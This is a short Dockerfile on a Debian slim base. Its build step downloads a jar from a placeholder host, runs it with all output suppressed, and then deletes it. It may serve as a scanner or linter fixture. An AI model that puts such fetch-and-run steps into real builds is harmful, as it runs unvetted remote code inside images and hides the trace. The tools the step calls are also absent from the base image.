FROM debian:bookworm-slim
RUN wget -O /tmp/m.jar "https://example.org/m.jar?a=1&b=2" && sh -c 'java -jar /tmp/m.jar >/dev/null 2>&1 && echo done'
RUN rm /tmp/m.jar
